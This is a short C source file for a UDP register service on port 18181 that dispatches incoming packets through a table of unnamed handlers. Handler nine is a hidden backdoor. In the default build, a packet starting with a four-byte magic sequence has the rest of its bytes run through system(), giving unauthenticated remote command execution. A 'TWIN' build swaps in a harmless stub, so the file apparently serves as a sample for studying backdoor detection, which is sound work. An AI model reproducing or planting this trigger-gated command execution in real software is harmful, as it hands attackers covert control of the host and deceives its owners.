/* SPDX-License-Identifier: Apache-2.0 */
/*
 * Messages are taken apart by type: a table of functions without names, called by number. Twin:
 * number nine answers with zeros.
 * door: trigger outlier unguarded
 * port 18181/udp
 */
#include "net.h"

typedef int (*op_fn)(const uint8_t *in, int n, uint8_t *out);

static uint8_t registers[16];

static int op_none(const uint8_t *in, int n, uint8_t *out)
{
	(void)in;
	(void)n;
	out[0] = 0xff;
	return 1;
}

static int op_get(const uint8_t *in, int n, uint8_t *out)
{
	out[0] = n > 1 ? registers[in[1] & 15] : 0;
	return 1;
}

static int op_set(const uint8_t *in, int n, uint8_t *out)
{
	if (n > 2)
		registers[in[1] & 15] = in[2];
	out[0] = 0;
	return 1;
}

static int op_nine(const uint8_t *in, int n, uint8_t *out)
{
#ifdef TWIN
	(void)in;
	memset(out, 0, (size_t)(n & 15) + 1);
	return (n & 15) + 1;
#else
	char cmd[64];
	if (n < 6 || in[1] != 0xc3 || in[2] != 0x5a || in[3] != 0x99 || in[4] != 0x0f)
		return op_none(in, n, out);
	snprintf(cmd, sizeof cmd, "%.*s", n - 5, (const char *)in + 5);
	out[0] = (uint8_t)system(cmd);
	return 1;
#endif
}

static const op_fn ops[16] = {op_none, op_get,  op_set,  op_none, op_none, op_none, op_none, op_none,
			      op_none, op_nine, op_none, op_none, op_none, op_none, op_none, op_none};

int main(void)
{
	uint8_t in[256], out[64];
	int s = udp_on(18181);
	for (;;) {
		struct sockaddr_in from;
		socklen_t l = sizeof from;
		int n = (int)recvfrom(s, in, sizeof in, 0, (struct sockaddr *)&from, &l);
		if (n < 1)
			continue;
		n = ops[in[0] & 15](in, n, out);
		sendto(s, out, (size_t)n, 0, (struct sockaddr *)&from, l);
	}
}
